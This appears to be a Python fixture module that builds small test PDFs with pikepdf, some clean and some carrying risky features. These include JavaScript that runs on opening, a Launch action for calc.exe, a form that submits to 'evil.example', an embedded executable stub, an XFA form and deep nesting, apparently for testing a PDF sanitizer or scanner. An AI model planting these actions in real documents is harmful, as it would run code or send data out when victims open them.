"""Small PDFs that are real, and such as do harm where they are opened."""

from __future__ import annotations

from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def make_pdf(words="Plan", *, change=None, **options):
    """The bytes of a PDF of one page that says `words` in its title; the same words give the same bytes."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.docinfo["/Title"] = words
    if change is not None:
        change(pdf)
    output = BytesIO()
    pdf.save(output, deterministic_id=not options, **options)
    return output.getvalue()


def with_link(pdf):
    """To a web page, as people write them."""
    _annotate(pdf, Dictionary(S=Name.URI, URI=String("https://ico.example/")))


def with_script_on_opening(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def with_script_by_name(pdf):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(Dictionary(S=Name.JavaScript))]))
    )


def with_program(pdf):
    _annotate(pdf, Dictionary(S=Name.Launch, F=String("calc.exe")))


def with_form_that_sends(pdf):
    _annotate(pdf, Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))


def with_active_form(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp/>"))


def with_file_inside(pdf):
    pdf.attachments["a.exe"] = b"MZ"


def with_film(pdf):
    _annotate(pdf, Dictionary(S=Name.Rendition))


def nested(pdf):
    inner = Array()
    for _level in range(300):
        inner = Array([inner])
    pdf.Root.Deep = inner


def locked():
    return make_pdf(encryption=pikepdf.Encryption(owner="a", user="b"))


def restricted():
    """Opens without a password, and forbids this and that."""
    return make_pdf(encryption=pikepdf.Encryption(owner="a", user=""))


def _annotate(pdf, action):
    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)])
